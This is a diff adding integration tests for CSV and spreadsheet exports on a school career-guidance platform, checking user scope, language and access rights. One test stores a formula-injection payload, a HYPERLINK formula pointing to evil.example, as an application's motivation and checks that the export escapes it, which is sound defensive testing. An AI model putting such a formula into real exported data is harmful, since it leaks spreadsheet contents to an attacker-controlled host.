@@ -7,6 +7,9 @@ import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
+import java.util.List;
+import java.util.regex.Pattern;
+import java.util.stream.Collectors;
 import org.junit.jupiter.api.Test;
 
 /** The list pages export what their table shows, as CSV and as a spreadsheet, within the person's scope. */
@@ -116,6 +119,92 @@ class ExportIT {
 
         assertThat(csv.statusCode()).isEqualTo(200);
         assertThat(csv.body()).contains("Ardit Basha").doesNotContain(username);
+    }
+
+    @Test
+    void aSchoolsApplicationsExportWithAMotivationThatLooksLikeAFormulaAsText() {
+        String student = Platform.newAccount("STUDENT", "Pljevlja", "EN");
+        String password = Mailbox.setPasswordFromWelcomeMail(student + "@school.example");
+        long developers = Platform.json(Platform.call("GET", "/api/opportunities?isco=2512", student, password, null))
+                .getJsonArray("items").getJsonObject(0).getJsonNumber("id").longValue();
+        String motivation = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        HttpResponse<String> applied = Platform.call("POST", "/api/opportunities/" + developers + "/applications", student,
+                password, "{\"motivation\": " + Platform.quoted(motivation) + "}");
+        assertThat(applied.statusCode()).as(applied.body()).isEqualTo(201);
+
+        HttpResponse<String> csv = export("school.pljevlja", "/opportunities/applications.xhtml", "applications", "export");
+
+        assertThat(csv.statusCode()).isEqualTo(200);
+        // school.pljevlja reads Montenegrin; a spreadsheet program shows a cell that starts with an apostrophe as text
+        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\"")
+                .doesNotContain("\"=HYPERLINK").contains(Platform.text("_sr_Latn_ME", "ApplicationStatus.PENDING"));
+        assertThat(export("school.kpt", "/opportunities/applications.xhtml", "applications", "export").body())
+                .doesNotContain("HYPERLINK");
+    }
+
+    @Test
+    void aCounsellorsCaseloadExportsTheStudentsOfTheSchoolOnly() {
+        HttpResponse<String> csv = export("teacher.kpt", "/guidance/caseload.xhtml", "students", "export");
+
+        assertThat(csv.statusCode()).isEqualTo(200);
+        assertThat(csv.body()).contains("\"Klea Shehu\",\"student.kpt\"").doesNotContain("student.pljevlja");
+    }
+
+    @Test
+    void theTrainingCatalogueAndATeachersOwnTrainingsExport() {
+        HttpResponse<String> catalogue = export("teacher.pljevlja", "/trainings/index.xhtml", "trainings", "export");
+        HttpResponse<String> spreadsheet = export("teacher.pljevlja", "/trainings/index.xhtml", "trainings", "export-xlsx");
+        HttpResponse<String> mine = export("teacher.kpt", "/trainings/mine.xhtml", "mine", "export");
+
+        assertThat(catalogue.body()).contains("\"RIASEC interest assessment in practice\"");
+        assertThat(spreadsheet.headers().firstValue("Content-Type"))
+                .hasValue("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
+        assertThat(mine.body()).contains("\"Labour-market information in guidance\"")
+                .doesNotContain("RIASEC interest assessment in practice");
+    }
+
+    @Test
+    void theOpportunitiesTheLibraryAndTheOccupationsExportInTheReadersLanguage() {
+        HttpResponse<String> opportunities = export("student.kpt", "/opportunities/index.xhtml", "board", "export");
+        HttpResponse<String> library = export("teacher.kpt", "/guidance/resources.xhtml", "resources", "export");
+        HttpResponse<String> occupations = export("student.kpt", "/guidance/occupations.xhtml", "occupations", "export");
+
+        assertThat(opportunities.statusCode()).isEqualTo(200);
+        assertThat(opportunities.body()).contains("2512");
+        assertThat(library.body()).contains("\"Europass CV editor\"").contains(Platform.text("_sq", "ResourceKind.LINK"))
+                .contains(Platform.text("_sq", "Audience.COUNSELLOR"));
+        assertThat(occupations.body()).contains("\"5120\"").contains(Platform.text("_sq", "occupation.isco"));
+    }
+
+    @Test
+    void aMinistryExportsTheIndicatorsOfItsCountryWithTheirAreasNamed() {
+        HttpResponse<String> csv = download("ministry.al", "/api/indicators/export?format=csv");
+
+        assertThat(csv.statusCode()).isEqualTo(200);
+        assertThat(csv.headers().firstValue("Content-Disposition")).hasValueSatisfying(
+                disposition -> assertThat(disposition).contains("indicators.csv"));
+        // ministry.al reads Albanian: every row names its area in Albanian and counts an Albanian school
+        String areas = Platform.texts("messages", "_sq").entrySet().stream()
+                .filter(text -> text.getKey().toString().startsWith("IndicatorArea."))
+                .map(text -> Pattern.quote(text.getValue().toString())).collect(Collectors.joining("|"));
+        List<String> rows = csv.body().lines().skip(1).toList();
+        assertThat(rows).isNotEmpty().allSatisfy(row -> assertThat(row).containsPattern("^(" + areas + "),AL,"));
+        assertThat(download("coordinator", "/api/indicators/export?format=xlsx&area=MOBILITIES_BY_TYPE").body()).startsWith("PK");
+        assertThat(download("teacher.kpt", "/api/indicators/export").statusCode()).isEqualTo(403);
+    }
+
+    @Test
+    void anyoneExportsTheResearchAndPolicyRegisterFilteredLikeThePageInTheChosenLanguage() {
+        String page = Platform.call("GET", "/policy/index.xhtml?kind=RECOMMENDATION", null, null, null).body();
+        HttpResponse<String> csv = Platform.send(HttpRequest.newBuilder(
+                URI.create(Platform.url("/api/publications/export?format=csv&lang=SQ&kind=RECOMMENDATION"))).build());
+
+        assertThat(page).contains("/api/publications/export?format=csv&amp;lang=EN&amp;kind=RECOMMENDATION");
+        assertThat(csv.statusCode()).isEqualTo(200);
+        assertThat(csv.body()).contains(Platform.text("_sq", "policy.published_on"))
+                .contains("Make career guidance a regular part of the VET school year")
+                .contains(Platform.text("_sq", "RecommendationStatus.ADOPTED"))
+                .doesNotContain("country policy report");
     }
 
     /** Opens the page as the user and presses its export button, like a browser would. */
